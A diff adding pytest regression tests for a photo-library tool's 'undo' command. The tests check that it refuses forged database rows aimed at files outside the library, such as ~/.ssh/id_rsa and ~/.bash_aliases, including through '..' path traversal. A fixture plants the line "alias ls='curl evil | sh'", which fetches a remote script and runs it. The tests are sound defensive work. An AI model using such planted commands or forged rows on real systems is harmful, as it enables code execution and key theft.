@@ -1,0 +1,125 @@
+"""``undo`` of a batch holding a row blurscan never writes (added by hand to a shared library's database by
+another user, or come with a library unpacked from someone's archive) refuses the batch in one ``Error:`` line
+naming the database and the row, and touches no file. Until 2026-12-06 undo did what such rows said, as the
+person running it: it moved a file from outside the library into it (``~/.ssh/id_rsa``), put a library file at a
+path outside it (``~/.bash_aliases``), and deleted any file a tag row named as its sidecar's backup copy."""
+from __future__ import annotations
+
+import hashlib
+import sqlite3
+import time
+
+import pytest
+
+from helpers_cli import run
+from helpers_images import make_library
+from helpers_library import snapshot
+
+
+@pytest.fixture
+def library(tmp_path):
+    lib = tmp_path / "lib"
+    make_library(lib, n_sharp=2, n_blurry=1)
+    result = run("scan", lib, "--model", "none", "--workers", "1")
+    assert result.exit_code == 0, result.output
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    (home / ".ssh" / "id_rsa").write_text("-----BEGIN OPENSSH PRIVATE KEY-----\n")
+    (home / "notes.txt").write_text("the victim's notes\n")
+    (lib / "planted.jpg").write_text("alias ls='curl evil | sh'\n")
+    return lib, home
+
+
+def _forge(db, kind, destination, src, dst, state="done", sha256=None):
+    """A batch of one row, written as another user of the library would, with sqlite3."""
+    conn = sqlite3.connect(db)
+    now = time.time()
+    batch = conn.execute("INSERT INTO batches (kind, destination, created_at, state) VALUES (?, ?, ?, 'done')",
+                         (kind, None if destination is None else str(destination), now)).lastrowid
+    row = conn.execute("INSERT INTO journal (batch_id, src, dst, size, sha256, state, updated_at) "
+                       "VALUES (?, ?, ?, NULL, ?, ?, ?)", (batch, str(src), str(dst), sha256, state, now)).lastrowid
+    conn.commit()
+    conn.close()
+    return batch, row
+
+
+def _refused(tmp_path, lib, batch, row, said):
+    before = snapshot(tmp_path)
+    for args in (["undo", lib], ["undo", "--batch", str(batch), lib]):
+        result = run(*args)
+        assert result.exit_code == 1 and "Traceback" not in result.output, result.output
+        assert f"Error: {lib / '.blurscan.db'}: batch {batch} cannot be undone: its journal row {row} " \
+            in result.output, result.output
+        assert said in result.output and "nothing was touched" in result.output
+        assert snapshot(tmp_path) == before
+
+
+def test_a_move_row_taking_a_file_from_outside_the_library_is_refused(library, tmp_path):
+    lib, home = library
+    key = home / ".ssh" / "id_rsa"
+    batch, row = _forge(lib / ".blurscan.db", "move", home / ".ssh", lib / "stolen.jpg", key)
+    _refused(tmp_path, lib, batch, row, f"moved {lib / 'stolen.jpg'} to {key}, not that photo's place")
+    assert key.exists() and not (lib / "stolen.jpg").exists()
+
+
+def test_a_move_row_putting_a_file_outside_the_library_is_refused(library, tmp_path):
+    lib, home = library
+    aliases = home / ".bash_aliases"
+    batch, row = _forge(lib / ".blurscan.db", "move", lib, aliases, lib / "planted.jpg")
+    _refused(tmp_path, lib, batch, row, f"names {aliases}, outside the library")
+    assert not aliases.exists()
+
+
+def test_a_move_row_with_dots_in_its_destination_is_refused(library, tmp_path):
+    lib, home = library
+    key = home / ".ssh" / "id_rsa"
+    batch, row = _forge(lib / ".blurscan.db", "move", tmp_path / "rejects", lib / "id_rsa",
+                        f"{tmp_path}/rejects/../home/.ssh/id_rsa")
+    _refused(tmp_path, lib, batch, row, "not a plain absolute path")
+    assert key.exists()
+
+
+def test_a_trash_row_taking_a_file_from_outside_any_trash_is_refused(library, tmp_path):
+    lib, home = library
+    key = home / ".ssh" / "id_rsa"
+    batch, row = _forge(lib / ".blurscan.db", "trash", None, lib / "id_rsa", key)
+    _refused(tmp_path, lib, batch, row, "not in a trash")
+    assert key.exists()
+
+
+@pytest.mark.parametrize("state", ["planned", "done"])
+def test_a_tag_row_whose_backup_is_a_file_outside_is_refused(library, tmp_path, state):
+    lib, home = library
+    notes = home / "notes.txt"
+    sidecar = lib / "sharp_0.jpg.xmp"
+    sidecar.write_text("<x:xmpmeta/>")
+    sha = hashlib.sha256(sidecar.read_bytes()).hexdigest()
+    batch, row = _forge(lib / ".blurscan.db", "tag", None, sidecar, notes, state=state, sha256=sha)
+    _refused(tmp_path, lib, batch, row, f"keeps the previous bytes of {sidecar} at {notes}, not in a tag backup")
+    assert notes.read_text() == "the victim's notes\n"
+
+
+def test_a_tag_row_naming_a_file_that_is_no_sidecar_is_refused(library, tmp_path):
+    lib, home = library
+    notes = home / "notes.txt"
+    sha = hashlib.sha256(notes.read_bytes()).hexdigest()
+    batch, row = _forge(lib / ".blurscan.db", "tag", None, notes, None, sha256=sha)
+    conn = sqlite3.connect(lib / ".blurscan.db")
+    conn.execute("UPDATE journal SET dst = NULL")
+    conn.commit()
+    conn.close()
+    _refused(tmp_path, lib, batch, row, f"names {notes}, outside the library")
+    assert notes.exists()
+
+
+def test_the_batches_blurscan_wrote_are_undone(library, tmp_path):
+    lib, _home = library
+    for args in (["move", "--to", tmp_path / "rejects", "--all-flagged", "--yes", lib],
+                 ["tag", "--xmp", "--yes", lib]):
+        result = run(*args)
+        assert result.exit_code == 0, result.output
+    before = snapshot(lib)
+    for _ in range(2):
+        result = run("undo", lib)
+        assert result.exit_code == 0, result.output
+    assert snapshot(lib) != before and not list((tmp_path / "rejects").rglob("*.jpg"))
